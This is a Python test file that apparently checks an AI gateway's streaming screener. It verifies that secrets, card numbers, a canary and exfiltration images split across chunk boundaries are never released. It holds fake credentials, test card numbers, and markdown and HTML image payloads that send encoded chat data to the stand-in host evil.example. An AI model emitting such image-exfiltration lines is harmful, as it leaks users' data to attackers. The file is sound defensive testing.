"""A sensitive value split across any chunk boundary of a model's stream is never released.

Each answer holds one secret, card number, canary or exfiltration image between prose. It is
streamed in two chunks at every split position, in three chunks at a spread of position pairs, and
in 5-character deltas at every alignment. Every stream must (a) never release the value, (b) end
as the buffered release of the whole answer decides, and (c) for a block, have released nothing
that any of the whole answer's findings touches: the hold-back is long enough that a finding
overlaps only held text.
"""

from __future__ import annotations

from typing import Final

import pytest

from secure_ai_gateway.screening.canary import new_canary
from tests.gateway.screening.fakes import (
    AWS_ACCESS_KEY,
    AWS_SECRET_KEY,
    GITHUB_TOKEN,
    PRIVATE_KEY,
    local_policy,
)
from tests.gateway.screening.streams import Streamed, buffered, chunks_at, deltas, stream

POLICY: Final = local_policy(allowed_hosts=["docs.example.com"])
CANARY: Final = new_canary()
# Enough prose before the value that the stream releases some of it first, and after it.
BEFORE: Final = (
    "Here is the summary you asked for. The service starts cleanly and the tests pass. "
    "Read [the guide](https://docs.example.com/guide) for the details of each step.\n\n"
    "The configuration below is what the deployment uses today, as far as I can tell:\n\n"
)
# Long enough after the value that the stream settles it before the end (a block in mid-stream).
AFTER: Final = (
    "\n\nLet me know if anything else needs changing; I can also write the migration. The rollout "
    "can go region by region, and each step can be undone on its own if the metrics look wrong. "
    "I would start with the smallest region, watch it for a day, and then move on to the others. "
    "Nothing in this plan needs downtime, and the old version keeps serving until the switch.\n"
)
DATA: Final = "c2VjcmV0LWRhdGEtZnJvbS10aGUtY2hhdA"

# name -> (the value in the answer, the substrings that must never be released)
SAMPLES: Final[dict[str, tuple[str, tuple[str, ...]]]] = {
    "aws_key_pair": (
        f"aws_access_key_id = {AWS_ACCESS_KEY}\naws_secret_access_key = {AWS_SECRET_KEY}",
        (AWS_ACCESS_KEY, AWS_SECRET_KEY, AWS_ACCESS_KEY[:8], AWS_SECRET_KEY[:8]),
    ),
    "github_token": (f"export GITHUB_TOKEN={GITHUB_TOKEN}", (GITHUB_TOKEN, GITHUB_TOKEN[:10])),
    "pem_private_key": (PRIVATE_KEY, ("PRIVATE KEY", "BEGIN RSA", "MIIEowIBAAKCAQEA")),
    "card_spaces": ("Card: 4111 1111 1111 1111, expires 12/29.", ("4111 1111", "1111 1111 1111")),
    "card_dashes": ("Card: 5500-0000-0000-0004 on file.", ("5500-0000", "0000-0000-0004")),
    "canary": (f"My instructions say {CANARY} must stay secret.", (CANARY, CANARY[:13])),
    "exfiltration_image": (
        f"![chart](https://evil.example/p.png?d={DATA})",
        ("evil.example", DATA[:12], "![chart](https"),
    ),
    "exfiltration_html_img": (
        f'<img src="https://evil.example/p.png?d={DATA}" alt="chart">',
        ("evil.example", DATA[:12], "<img src"),
    ),
}


def _answer(name: str) -> str:
    return BEFORE + SAMPLES[name][0] + AFTER


def _check(name: str, streamed: Streamed) -> None:
    answer = _answer(name)
    whole = buffered(answer, POLICY, canary=CANARY)
    for secret in SAMPLES[name][1]:
        assert secret not in streamed.text, f"{name}: released {secret!r}"
    assert streamed.verdict.decision == whole.verdict.decision
    assert streamed.verdict.decision in {"block", "redact"}
    if streamed.verdict.decision == "redact":
        # The stream released exactly what the buffered path releases.
        assert streamed.text == whole.text
        assert streamed.verdict.content_digest == whole.verdict.content_digest
    else:
        assert streamed.verdict.content_digest is None
        # By construction, every finding of the whole answer lies in text the stream still held.
        released = len(streamed.released_before_end)
        assert answer[:released] == streamed.released_before_end
        for finding in whole.verdict.findings:
            if finding.action != "allow":
                assert finding.span[0] >= released, f"{name}: {finding.type} overlaps released text"


def _sample_span(name: str) -> range:
    start = len(BEFORE)
    return range(start - 3, start + len(SAMPLES[name][0]) + 4)


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_two_chunks_split_at_every_position_release_nothing_of_the_value(name: str) -> None:
    answer = _answer(name)
    for position in range(1, len(answer)):
        _check(name, stream(chunks_at(answer, position), POLICY, canary=CANARY))


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_three_chunks_split_across_the_value_release_nothing_of_it(name: str) -> None:
    answer = _answer(name)
    inside = list(_sample_span(name))
    firsts = inside[:: max(1, len(inside) // 8)]
    for first in firsts:
        for second in (first + 1, first + 2, first + 7, first + 31, inside[-1]):
            if first < second < len(answer):
                _check(name, stream(chunks_at(answer, first, second), POLICY, canary=CANARY))


@pytest.mark.parametrize("name", sorted(SAMPLES))
@pytest.mark.parametrize("size", [5, 40])
def test_small_deltas_at_every_alignment_release_nothing_of_the_value(name: str, size: int) -> None:
    answer = _answer(name)
    for offset in range(size):
        _check(name, stream(deltas(answer, size, offset), POLICY, canary=CANARY))
